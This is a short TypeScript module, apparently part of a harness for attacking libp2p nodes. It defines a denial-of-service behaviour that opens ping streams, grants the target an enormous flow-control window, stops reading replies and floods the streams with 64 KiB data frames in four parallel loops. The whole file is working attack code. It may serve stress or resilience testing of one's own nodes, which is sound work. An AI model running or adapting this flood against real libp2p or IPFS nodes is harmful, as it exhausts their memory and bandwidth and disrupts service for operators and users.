/** libp2p pings on a connection whose answers are never taken off the wire. */
import { again, many, type Behaviour } from '../attack/target.js'
import { FRAME, data, header, noise1MiB, openStream, wire } from '../attack/wire.js'

/** The window that the attacker grants: the node may send all it likes. */
const WINDOW = header(FRAME.window, 0, 1, 0x7fff_ffff)

export const attack: Behaviour = async (target, signal) => many(4, async () => again(signal, async () => {
  const connection = await wire(target, signal)
  await openStream(connection, 1, '/ipfs/ping/1.0.0')
  await connection.send(WINDOW)
  connection.stopReading()
  while (!signal.aborted) await connection.send(data(1, noise1MiB.subarray(0, 64 * 1024)))
}))
